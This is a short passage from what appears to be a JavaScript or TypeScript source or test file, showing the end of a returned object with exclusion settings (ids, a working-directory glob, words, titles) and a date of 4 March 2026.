    excluded: { ids: [exId, exCwdId], cwdPattern: '/home/dev/clients/**', words, titles },
    day: { year: '2026', month: '03', day: '04' },
  };
}
